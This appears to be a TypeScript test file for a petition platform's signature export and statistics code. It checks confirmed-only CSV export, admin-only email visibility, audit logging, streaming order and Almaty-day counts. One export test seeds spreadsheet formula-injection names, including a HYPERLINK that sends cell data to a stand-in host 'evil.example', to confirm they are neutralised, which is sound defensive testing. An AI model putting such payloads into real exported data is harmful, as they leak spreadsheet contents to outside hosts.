import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { rowsOf } from "@/db";
import { signatures } from "@/db/schema";
import { createTestDatabase, type TestDatabase } from "@/db/testing";
import { makeWorld } from "@/lib/organizers/test-world";
import { exportSignatures } from "./export-signatures";
import { getPetitionFigures } from "./get-petition-figures";

let database: TestDatabase;
const db = () => database.db;
beforeAll(async () => {
  database = await createTestDatabase();
});
afterAll(async () => {
  await database?.drop();
});

const labels = { name: "Имя", confirmedAt: "Подтверждено", email: "Email" };

async function sign(petitionId: string, name: string, email: string, state: "pending" | "confirmed", confirmedAt?: string, extra: Partial<typeof signatures.$inferInsert> = {}) {
  await db()
    .insert(signatures)
    .values({
      petitionId,
      emailNormalized: email,
      name,
      locale: "ru",
      state,
      tokenNonce: `nonce-${email}-${Math.random()}`,
      tokenHash: `hash-${email}-${Math.random()}`,
      tokenExpiresAt: new Date(Date.now() + 86_400_000),
      confirmedAt: confirmedAt ? new Date(confirmedAt) : null,
      ...extra,
    });
}

async function csv(out: Awaited<ReturnType<typeof exportSignatures>>): Promise<string> {
  let s = "";
  for await (const line of out.lines) s += line;
  return s;
}

describe("delivery export", () => {
  it("lists confirmed signatures only, neutralises formulas, and shows addresses to admins only", async () => {
    const w = await makeWorld(db());
    const p = w.published.id;
    await sign(p, "Әлия Нұрланқызы", "aliya@example.org", "confirmed", "2026-11-20T10:00:00Z");
    await sign(p, '=HYPERLINK("http://evil.example/?"&A1,"click")', "evil@example.org", "confirmed", "2026-11-20T11:00:00Z");
    await sign(p, "+7 700 000", "plus@example.org", "confirmed", "2026-11-21T11:00:00Z");
    await sign(p, "@SUM(1+1)", "at@example.org", "confirmed", "2026-11-21T12:00:00Z");
    await sign(p, "-1", "minus@example.org", "confirmed", "2026-11-21T13:00:00Z");
    await sign(p, "\t=cmd", "tab@example.org", "confirmed", "2026-11-21T14:00:00Z");
    await sign(p, "Pending Person", "pending@example.org", "pending");

    const organizerCsv = await csv(await exportSignatures(db(), w.organizer, { petitionId: p, labels }));
    const lines = organizerCsv.replace(/^\uFEFF/, "").split("\r\n").filter(Boolean);
    expect(lines[0]).toBe('"Имя","Подтверждено"');
    expect(lines.slice(1)).toEqual([
      '"Әлия Нұрланқызы","2026-11-20 15:00"',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","2026-11-20 16:00"`,
      `"'+7 700 000","2026-11-21 16:00"`,
      `"'@SUM(1+1)","2026-11-21 17:00"`,
      `"'-1","2026-11-21 18:00"`,
      `"'\t=cmd","2026-11-21 19:00"`,
    ]);
    expect(organizerCsv).not.toContain("@example.org");
    expect(organizerCsv).not.toContain("Pending Person");

    const adminCsv = await csv(await exportSignatures(db(), w.admin, { petitionId: p, labels }));
    expect(adminCsv).toContain('"Әлия Нұрланқызы","2026-11-20 15:00","aliya@example.org"');
    expect(adminCsv.split("\r\n")[0]).toBe('\uFEFF"Имя","Подтверждено","Email"');
  });

  it("records every export in the audit log, with whether addresses were included", async () => {
    const w = await makeWorld(db());
    await exportSignatures(db(), w.organizer, { petitionId: w.published.id, labels });
    await exportSignatures(db(), w.admin, { petitionId: w.published.id, labels });
    const rows = rowsOf<{ actor_id: string; details: { withEmail: boolean } }>(
      await db().execute(sql`select actor_id, details from audit_log where action = 'signatures.export' and entity_id = ${w.published.id} order by at`),
    );
    expect(rows.map((r) => [r.actor_id, r.details.withEmail])).toEqual([
      [w.organizer.userId, false],
      [w.admin.userId, true],
    ]);
  });

  it("streams exports larger than one page in order", async () => {
    const w = await makeWorld(db());
    const base = Date.parse("2026-01-01T00:00:00Z");
    await db().insert(signatures).values(
      Array.from({ length: 4500 }, (_, i) => ({
        petitionId: w.published.id,
        emailNormalized: `s${i}@example.org`,
        name: `Signer ${i}`,
        locale: "kk" as const,
        state: "confirmed" as const,
        tokenNonce: `bulk-${w.tag}-${i}`,
        tokenHash: `bulk-${w.tag}-${i}`,
        tokenExpiresAt: new Date(base),
        confirmedAt: new Date(base + Math.floor(i / 3) * 1000), // ties on the timestamp, to exercise the keyset
      })),
    );
    const text = await csv(await exportSignatures(db(), w.organizer, { petitionId: w.published.id, labels }));
    const names = text.split("\r\n").slice(1).filter(Boolean).map((l) => l.split('","')[0]!.slice(1));
    expect(names).toHaveLength(4500);
    expect(new Set(names).size).toBe(4500);
  });
});

describe("petition figures", () => {
  it("counts by state, per Almaty day (zero days filled), and consents of confirmed signers", async () => {
    const w = await makeWorld(db());
    const p = w.published.id;
    await sign(p, "A", "a@example.org", "confirmed", "2026-11-20T18:30:00Z", { consentUpdates: true }); // 23:30 in Almaty
    await sign(p, "B", "b@example.org", "confirmed", "2026-11-20T19:30:00Z", { showNamePublicly: true }); // 00:30 next day
    await sign(p, "C", "c@example.org", "confirmed", "2026-11-22T08:00:00Z", { consentUpdates: true, showNamePublicly: true });
    await sign(p, "D", "d@example.org", "pending", undefined, { consentUpdates: true });
    const f = await getPetitionFigures(db(), w.organizer, p, new Date("2026-11-23T06:00:00Z"));
    expect(f.byState).toMatchObject({ confirmed: 3, pending: 1 });
    expect(f.perDay).toEqual([
      { day: "2026-11-20", n: 1 },
      { day: "2026-11-21", n: 1 },
      { day: "2026-11-22", n: 1 },
      { day: "2026-11-23", n: 0 },
    ]);
    expect(f.consents).toEqual({ updates: 2, publicName: 2 });
  });
});
